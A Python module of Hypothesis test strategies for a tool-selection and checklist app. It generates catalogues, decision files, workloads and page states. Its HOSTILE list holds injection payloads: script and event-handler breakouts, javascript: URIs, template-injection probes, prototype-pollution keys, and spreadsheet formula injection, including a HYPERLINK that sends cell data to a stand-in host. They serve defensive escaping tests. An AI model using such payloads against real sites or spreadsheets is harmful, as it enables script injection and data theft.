"""Hypothesis strategies for everything that a property is stated over, and the small catalogues that they live in."""

from __future__ import annotations

import re
import string
from collections.abc import Mapping
from datetime import date
from fractions import Fraction
from typing import Any, get_args

from hypothesis import strategies as st

from orchkit.model.advice import OutcomeKind
from orchkit.model.catalogue import Catalogue
from orchkit.model.checklist import Checklist, Severity
from orchkit.model.input.choice import Choice, Dissent, Status
from orchkit.model.input.context import usable_context
from orchkit.model.input.decision import DecisionFile
from orchkit.model.input.responses import Answer, Outcome, Response, Statement
from orchkit.model.input.workload import Axis, BreakEvenChoice, CostEdit, Workload
from orchkit.scoring import decision_matrix
from orchkit.views.state import PageState

Cells = dict[str, dict[str, int | None]]
"""A decision matrix as people write it: score by tool and criterion, null where it is unknown."""

READ_ON = date(2026, 11, 21)
CHECKLIST, VERSION = "generated", "1.0"

# --- builders: the least that the models accept -----------------------------------------------------------------------


def citation() -> dict[str, Any]:
    return {"url": "https://example.org/page", "shows": "the passage", "read_on": READ_ON}


def score_data(value: int | None) -> dict[str, Any]:
    if value is None:
        return {"value": None, "why": "nobody has looked"}
    return {"value": value, "basis": "reviewed", "why": "because", "sources": [citation()], "confidence": "high"}


def tool_data(name: str, *, ranked: bool = True) -> dict[str, Any]:
    unknown = {"value": None, "why": "nobody has looked"}
    identity = dict.fromkeys(("licence", "owner", "governance", "first_release", "current_version", "python_versions"), unknown)
    return {
        "name": name.title(),
        "short": name,
        "kind": "orchestrator",
        "ranked": ranked,
        "why_not_ranked": None if ranked else "it starts nothing by itself",
        "homepage": f"https://example.org/{name}",
        "summary": "It runs tasks.",
        "mental_model": "A task is a function.",
        "choose_when": [],
        "avoid_when": [],
        "identity": identity,
        "strengths": [],
        "weaknesses": [],
    }


def criterion_data(name: str) -> dict[str, Any]:
    anchors = {"one": "poor", "three": "fair", "five": "good"}
    return {"name": name.title(), "short": name, "question": f"How is {name}?", "direction": "higher_is_better", "anchors": anchors}


def profile_data(weights: Mapping[str, float | Fraction], order: int = 1) -> dict[str, Any]:
    return {"name": f"Profile {order}", "order": order, "team": "Three people.", "why": "They say so.", "weights": dict(weights)}


def catalogue_of(cells: Cells, checklist: Checklist | None = None) -> Catalogue:
    """Build a catalogue from a matrix; its one profile, `first`, puts all weight on the first criterion."""
    criteria = list(next(iter(cells.values())))
    return Catalogue.model_validate(
        {
            "dataset": {"version": "2026.11.0", "released_on": READ_ON, "licence": "CC-BY-4.0", "stale_after_days": 180},
            "sources": {},
            "criteria": {name: criterion_data(name) for name in criteria},
            "profiles": {"first": profile_data({criteria[0]: 1})},
            "published": {},
            "tools": {
                name: {"id": name, "facts": tool_data(name), "scores": {key: score_data(value) for key, value in row.items()}, "deployments": {}}
                for name, row in cells.items()
            },
            "checklists": {CHECKLIST: {VERSION: checklist}} if checklist else {},
        }
    )


def case_data(context: Mapping[str, str] | None = None, notes: Mapping[str, str] | None = None) -> dict[str, Any]:
    return {
        "kind": "account",
        "organisation": "Anthill",
        "author_kind": "company",
        "title": "Why ants",
        "story": "They took ants.",
        "chose": [{"tool": "ant"}],
        "context": dict(context or {}),
        "coding": {"coded_on": READ_ON, "before_first_run": True, "notes": dict(notes or {})},
        "sources": [citation()],
    }


def item_data(name: str, severity: str = "major") -> dict[str, Any]:
    texts = {field: f"{field} of {name}" for field in ("claim", "acceptance", "check", "why", "remedy")}
    return {"id": name, "severity": severity, "measurements": ["runs", "hours"], **texts}


def checklist_of(sections: list[list[str]], weights: tuple[int, int, int] = (5, 3, 1)) -> Checklist:
    """Build a checklist from the severities of its items, section by section; ids are `section-1`, `item-1-1`, …"""
    return Checklist.model_validate(
        {
            "title": "Generated",
            "released_on": READ_ON,
            "purpose": "Decides nothing.",
            "subject": "Nothing.",
            "severity_weights": dict(zip(("blocker", "major", "minor"), weights, strict=True)),
            "sections": [
                {
                    "id": f"section-{number}",
                    "title": f"Section {number}",
                    "items": [item_data(f"item-{number}-{index}", severity) for index, severity in enumerate(severities, 1)],
                }
                for number, severities in enumerate(sections, 1)
            ],
        }
    )


# --- text -------------------------------------------------------------------------------------------------------------

HOSTILE = (
    # HTML that ends what it stands in
    "<script>window.pwned = 1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    '" autofocus onfocus=window.pwned=1 x="',
    "</textarea><script>window.pwned = 1</script>",
    "</title></style></noscript></template></svg><svg onload=window.pwned=1>",
    "--><script>window.pwned = 1</script><!--",
    "]]><script>window.pwned = 1</script>",
    "<a href=//example.org>x</a><base href=https://example.org/>",
    "<meta http-equiv=refresh content='0; url=https://example.org/'>",
    "<form action=https://example.org/><button formaction=javascript:window.pwned=1>x",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "</div></td></table></details>",
    "<p class=ok-problem>",
    "&lt;b&gt; &#60;script&#62; &amp;lt;",
    "'\"`",
    # addresses
    "javascript:window.pwned=1",
    "JaVa\tScRiPt&colon;window.pwned=1",
    "\x01javascript:window.pwned=1",
    "data:text/html,<script>window.pwned = 1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:MsgBox(1)",
    "https://example.org/?a='onmouseover='window.pwned=1&b=javascript:window.pwned=1",
    "//example.org/\\example.org",
    # styles
    "</style><style>* { background: url(https://example.org/) }</style>",
    "x; background: url(javascript:window.pwned=1); width: expression(window.pwned=1)",
    # JSON and scripts
    '"}</script><script>window.pwned = 1</script>',
    '{"__proto__": {"pwned": 1}}',
    "\\u003cscript\\u003e \\x3c \\",
    "');window.pwned=1;('",
    "__proto__",
    "constructor",
    # templates and formats
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include 'frame.html.jinja' %}{# #}",
    "${7 * 7} #{7 * 7} <%= 7 * 7 %>",
    "%(a)s %s {0} {a.b}",
    # Markdown
    "[x](javascript:window.pwned=1) ![x](https://example.org/a.png)",
    "[x]: javascript:window.pwned=1 'x'",
    "# x\n\n</div>\n\n<script>window.pwned = 1</script>\n\n",
    '</div>\n<div markdown="1">\n\n* [x](javascript:window.pwned=1)',
    "| a | b |\n|---|---|\n| c | d |",
    "```html\n<script>window.pwned = 1</script>\n```",
    "x { #y .z onclick=window.pwned=1 }\n{: onclick=window.pwned=1 }",
    "`</code><script>window.pwned = 1</script>`",
    "*x* **x** _x_ __x__ ~~x~~ <https://example.org/>",
    "*[x]: y\n[^1]: z\n!!! note\n    x",
    # spreadsheets
    '=HYPERLINK("https://example.org/?a="&A1, "x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    # signs that are not seen, and what stands for nothing
    "\x00\x1b[2J",
    "<scr\x00ipt>window.pwned = 1</scr\x00ipt>",
    "a\u2028b\u2029c\x85d",
    "\u202egnp.exe\u2066 \u200b\ufeff",
    "\ufffe\uffff<b>\U000e0001",
    "null",
    "undefined",
    "NaN",
    "a\u0337\u0338\u0335 \U0001f3f4\u200d\u2620\ufe0f",
)
"""What has broken pages, files and spreadsheets that passed it on as it came. None is longer than the shortest field takes."""


def texts(max_size: int = 40) -> st.SearchStrategy[str]:
    """Any text that JSON can carry, hostile ones among it; no lone surrogates, which are no text."""
    return st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=["Cs"]), max_size=max_size)


def json_values(max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Any JSON value, of any shape; lone surrogates too, because JSON can spell them."""
    leaves = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(st.characters(), max_size=20)
    return st.recursive(
        leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=max_leaves
    )


# --- scoring ----------------------------------------------------------------------------------------------------------

TRIED = ("production-adoption", "proof-of-concept")
"""Checklists of the dataset that stand for all: they have two versions, measurements, and items that documents answer."""

CRITERIA = ("alpha", "beta", "gamma", "delta")
TOOLS = ("ant", "bee", "cat", "dog", "eel")


def scores(*, unknowns: bool = True) -> st.SearchStrategy[int | None]:
    """One score on the scale; now and then it is not known."""
    known = st.integers(1, 5)
    return st.one_of(known, known, known, st.none()) if unknowns else known


@st.composite
def cells(draw: st.DrawFn, *, max_tools: int = 5, max_criteria: int = 4, unknowns: bool = True) -> Cells:
    """Draw a decision matrix of at least two tools; the scale is short, so ties are frequent."""
    names = TOOLS[: draw(st.integers(2, max_tools))]
    criteria = CRITERIA[: draw(st.integers(1, max_criteria))]
    return {name: {key: draw(scores(unknowns=unknowns)) for key in criteria} for name in names}


def usable_weights(criteria: tuple[str, ...] | list[str]) -> st.SearchStrategy[dict[str, int]]:
    """Whole weights by criterion, zeros among them, never all zero."""
    return st.fixed_dictionaries(dict.fromkeys(criteria, st.integers(0, 10))).filter(lambda weights: any(weights.values()))


@st.composite
def weighted_cells(draw: st.DrawFn, *, max_tools: int = 5, max_criteria: int = 4, unknowns: bool = True) -> tuple[Cells, dict[str, int]]:
    """Draw a matrix and weights for it."""
    matrix = draw(cells(max_tools=max_tools, max_criteria=max_criteria, unknowns=unknowns))
    return matrix, draw(usable_weights(list(next(iter(matrix.values())))))


# --- assessment -------------------------------------------------------------------------------------------------------


def answers() -> st.SearchStrategy[Answer]:
    """One answer of any outcome, with a note or without."""
    return st.builds(Answer, outcome=st.sampled_from(Outcome), note=st.sampled_from(["", "  ", "seen on the trial run", "<script>"]))


@st.composite
def checklists(draw: st.DrawFn, *, max_items: int = 4) -> Checklist:
    """Draw a checklist of one to three sections."""
    severities = st.sampled_from([severity.value for severity in Severity])
    weights = draw(st.tuples(st.integers(1, 9), st.integers(1, 9), st.integers(1, 9)))
    return checklist_of(draw(st.lists(st.lists(severities, min_size=1, max_size=max_items), min_size=1, max_size=3)), weights)


@st.composite
def filled(draw: st.DrawFn, *, max_items: int = 4) -> tuple[Checklist, Response]:
    """Draw a checklist and a response to it, some items unanswered."""
    checklist = draw(checklists(max_items=max_items))
    names = [item.id for item in checklist.items]
    given = draw(st.dictionaries(st.sampled_from(names), answers()))
    return checklist, Response(checklist=CHECKLIST, version=VERSION, answers=given)


def statements() -> st.SearchStrategy[dict[str, Any]]:
    """What one copy of an evaluation says of an item; few different ones, so that copies agree often."""
    notes, measured = st.sampled_from(["", "seen"]), st.sampled_from([{}, {"runs": Fraction(1, 3)}, {"runs": 3, "hours": 1}])
    owners, to_confirm = st.sampled_from(["", "Ines"]), st.sampled_from([None, None, None, "It changed."])
    return st.fixed_dictionaries(
        {"outcome": st.sampled_from(Outcome), "note": notes, "measurements": measured, "owner": owners, "to_confirm": to_confirm}
    )


def copied_answers() -> st.SearchStrategy[Answer]:
    """An answer as one of several copies has it: low revisions, sometimes with what others say."""
    others = st.lists(statements().map(Statement.model_validate), max_size=2).map(tuple)
    return st.just(Answer()) | st.builds(
        lambda said, revision, more: Answer(**said, revision=revision, others=more), statements(), st.integers(0, 2), others
    )


@st.composite
def copies(draw: st.DrawFn, items: list[str]) -> DecisionFile:
    """Draw a decision file with some of a few evaluations, so that two files often have copies of one."""
    who = draw(st.lists(st.tuples(st.sampled_from(["Ines", "Omar", ""]), st.sampled_from([None, READ_ON])), unique=True, max_size=3))
    answers = st.dictionaries(st.sampled_from(items), copied_answers(), max_size=3)
    return DecisionFile(
        dataset_version="2026.11.0",
        responses=tuple(
            Response(
                id=draw(st.sampled_from(["first", "second", "first-2"])),
                checklist=CHECKLIST,
                version=VERSION,
                evaluator=evaluator,
                date=day,
                target_percent=draw(st.sampled_from([None, Fraction(70), Fraction(80)])),
                answers=draw(answers),
                retired=draw(answers),
            )
            for evaluator, day in who
        ),
    )


@st.composite
def groups(draw: st.DrawFn, *, max_evaluations: int = 5) -> tuple[Checklist, list[Response]]:
    """Draw a checklist and several evaluations of it: few subjects, evaluators and days, so that they meet."""
    checklist = draw(checklists(max_items=3))
    names = [item.id for item in checklist.items]
    evaluations = [
        Response(
            id=f"evaluation-{number}",
            checklist=CHECKLIST,
            version=VERSION,
            subject=draw(st.sampled_from(["ant", "Ant ", "bee"])),
            evaluator=draw(st.sampled_from(["", "Ann", "Bo", "Cy"])),
            date=draw(st.none() | st.sampled_from([date(2026, 1, 1), date(2026, 6, 1), date(2026, 11, 21)])),
            target_percent=draw(st.none() | st.sampled_from([0, 80, 100]).map(Fraction)),
            answers=draw(st.dictionaries(st.sampled_from(names), answers())),
        )
        for number in range(1, draw(st.integers(1, max_evaluations)) + 1)
    ]
    return checklist, evaluations


# --- what a user brings -----------------------------------------------------------------------------------------------


def decimals() -> st.SearchStrategy[Fraction]:
    """Weights as people type them: whole numbers and short decimals."""
    return st.integers(0, 100).map(Fraction) | st.integers(0, 99_999).map(lambda thousandths: Fraction(thousandths, 1000))


def contexts(catalogue: Catalogue, max_size: int = 12) -> st.SearchStrategy[dict[str, str]]:
    """Answers to some of the advisor's questions, those that contradict each other among them."""
    questions = catalogue.advice.bank.questions
    pairs = st.sampled_from(list(questions)).flatmap(lambda name: st.tuples(st.just(name), st.sampled_from(list(questions[name].answers))))
    given = st.lists(pairs, max_size=max_size, unique_by=lambda pair: pair[0]).map(dict)
    return given.map(lambda answers: {name: answers[name] for name in questions if name in answers})


def sound_contexts(catalogue: Catalogue, max_size: int = 12) -> st.SearchStrategy[dict[str, str]]:
    """Answers that do not contradict each other."""
    return contexts(catalogue, max_size).map(lambda answers: usable_context(answers, catalogue.advice.bank)[0])


@st.composite
def decisions(draw: st.DrawFn, catalogue: Catalogue, *, own_scores: bool = True, responses: bool = True) -> DecisionFile:
    """Draw a decision file that fits the catalogue."""
    scores = draw(st.sampled_from(["catalogue", *(f"published:{name}" for name in catalogue.published)]))
    tools, criteria = st.sampled_from(list(decision_matrix(catalogue, scores).cells)), st.sampled_from(list(catalogue.criteria))
    own = st.dictionaries(
        tools, st.dictionaries(criteria, st.fixed_dictionaries({"value": st.integers(1, 5), "why": st.just("we tried it")}), max_size=3), max_size=2
    )
    return DecisionFile.model_validate(
        {
            "dataset_version": catalogue.dataset.version,
            "title": draw(texts()),
            "profile": draw(st.sampled_from(list(catalogue.profiles))),
            "weights": draw(st.just({}) | st.dictionaries(criteria, decimals())),
            "scores": scores,
            "context": draw(st.just({}) | contexts(catalogue)),
            "advise_by": draw(st.sampled_from(["context", "own"])),
            "own_scores": draw(own) if own_scores else {},
            "shortlist": draw(st.just([]) | st.lists(tools, unique=True)),
            "responses": [draw(real_responses(catalogue, name)) for name in TRIED if responses and draw(st.booleans())],
            "workload": draw(st.none() | workloads()),
            "cost_edits": draw(cost_edits(catalogue)) if own_scores else {},
            "cost_deployments": draw(st.just([]) | st.lists(st.sampled_from(list(catalogue.costs.deployments)), unique=True, max_size=4)),
            "break_even": draw(st.none() | break_even_choices(catalogue)),
            "compared": draw(st.just([]) | st.lists(tools, unique=True, max_size=4)),
            "compare_rows": draw(st.sampled_from(["all", "differences"])),
            "choice": draw(st.none() | choices(catalogue)),
        }
    )


@st.composite
def choices(draw: st.DrawFn, catalogue: Catalogue) -> Choice:
    """Draw what a team decided: a tool in some form, an outcome without one, or nothing yet; with words of every sort."""
    tool = draw(st.none() | st.sampled_from(list(catalogue.tools)))
    outcome = draw(
        st.sampled_from([OutcomeKind.STAY, OutcomeKind.CHOOSE] if tool else [None, OutcomeKind.PROCESS, OutcomeKind.CRON, OutcomeKind.NONE])
    )
    deployment = draw(st.none() | st.sampled_from(list(catalogue.tools[tool].deployments))) if tool and catalogue.tools[tool].deployments else None
    days = draw(st.none() | st.lists(st.dates(), min_size=2, max_size=2).map(sorted))
    return Choice(
        outcome=outcome,
        tool=tool,
        deployment=deployment,
        status=draw(st.sampled_from(Status)) if outcome else Status.PROPOSED,
        decided_on=days[0] if days else None,
        review_on=days[1] if days else None,
        deciders=draw(texts()),
        why=draw(texts(200)),
        consequences=draw(texts(200)),
        dissent=tuple(Dissent(who=who, what=what) for who, what in draw(st.lists(st.tuples(texts(), texts()), max_size=3))),
    )


# --- costs ------------------------------------------------------------------------------------------------------------


@st.composite
def workloads(draw: st.DrawFn, *, rated: bool = True) -> Workload:
    """Draw a workload of a plausible size, in US dollars or, where `rated`, in a currency with or without its rate."""
    currency = draw(st.sampled_from(["USD", "EUR", "JPY"])) if rated else "USD"
    rate = draw(st.none() | st.sampled_from([Fraction(9, 10), Fraction(150)])) if currency != "USD" else None
    tenths = st.integers(0, 5_000).map(lambda number: Fraction(number, 10))
    return draw(
        st.builds(
            Workload,
            runs_per_day=tenths,
            tasks_per_run=st.integers(1, 50).map(Fraction),
            minutes_per_task=tenths,
            pushes_per_month=st.integers(0, 500).map(Fraction),
            executions_per_push=st.integers(0, 60).map(Fraction),
            seats=st.integers(0, 60),
            workflows_to_move=st.integers(0, 100),
            salary_per_year=st.none() | st.integers(0, 300_000).map(Fraction),
            overhead_percent=st.integers(0, 100).map(Fraction),
            currency=st.just(currency),
            currency_per_usd=st.just(rate),
            region=st.sampled_from(["us", "eu"]),
            horizon_years=st.integers(1, 10),
        )
    )


def cost_edits(catalogue: Catalogue) -> st.SearchStrategy[dict[str, dict[str, CostEdit]]]:
    """Own amounts for a few lines of the catalogue."""
    places = [(name, line) for name, one in catalogue.costs.deployments.items() for line in one.lines]
    amounts = (
        st.tuples(st.integers(0, 99_999), st.integers(0, 99_999))
        .map(sorted)
        .map(lambda ends: CostEdit(low=Fraction(ends[0]), high=Fraction(ends[1])))
    )

    def nested(flat: dict[tuple[str, str], CostEdit]) -> dict[str, dict[str, CostEdit]]:
        return {name: {line: edit for (own, line), edit in flat.items() if own == name} for name in dict.fromkeys(name for name, _ in flat)}

    return st.dictionaries(st.sampled_from(places), amounts, max_size=4).map(nested) if places else st.just({})


def break_even_choices(catalogue: Catalogue) -> st.SearchStrategy[BreakEvenChoice]:
    """Two different costed deployments and an axis."""
    pairs = st.lists(st.sampled_from(list(catalogue.costs.deployments)), min_size=2, max_size=2, unique=True)
    return st.builds(lambda pair, axis: BreakEvenChoice(first=pair[0], second=pair[1], axis=axis), pairs, st.sampled_from(get_args(Axis)))


@st.composite
def real_responses(draw: st.DrawFn, catalogue: Catalogue, checklist: str) -> Response:
    """Draw a response to a checklist of the catalogue, with free text of every sort."""
    version = draw(st.sampled_from(list(catalogue.checklists[checklist])))
    names = [item.id for item in catalogue.checklists[checklist][version].items]
    links = st.none() | st.sampled_from(["https://example.org/runs/7", "http://ci.example.org/?a=1&b='2'"])
    answer = st.builds(Answer, outcome=st.sampled_from(Outcome), note=texts(), evidence=links)
    return draw(
        st.builds(
            Response,
            checklist=st.just(checklist),
            version=st.just(version),
            subject=texts(),
            evaluator=texts(),
            date=st.none() | st.dates(),
            answers=st.dictionaries(st.sampled_from(names), answer, max_size=6),
        )
    )


def states(catalogue: Catalogue, *, own_scores: bool = True, responses: bool = True) -> st.SearchStrategy[PageState]:
    """Page states that fit the catalogue."""
    rejected = st.dictionaries(st.sampled_from(["scores:weight.community", "checklist/production-adoption:first.header.date"]), texts())
    return st.builds(PageState, decision=decisions(catalogue, own_scores=own_scores, responses=responses), rejected=rejected)


# --- data files -------------------------------------------------------------------------------------------------------


def _means_one_thing(text: str) -> bool:
    return not re.fullmatch(r"[yn]|[-+]?[0-9.]+([e][-+]?[0-9]+)?", text, re.IGNORECASE)


def yaml_values() -> st.SearchStrategy[Any]:
    """JSON-like data as a data file may hold it: printable text, keys that are text.

    Left out is what PyYAML leaves bare because YAML 1.1 reads it as text: `y` and `n`, and numbers like `1e5` and `09`.
    """
    printable = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"]) | st.sampled_from("\n\t"), max_size=20).filter(_means_one_thing)
    keys = st.text(string.ascii_letters + string.digits + " -_:#'\"é漢", max_size=12).filter(_means_one_thing)
    leaves = st.none() | st.booleans() | st.integers(-(10**15), 10**15) | st.floats(allow_nan=False, allow_infinity=False, width=32) | printable
    return st.recursive(leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4), max_leaves=15)
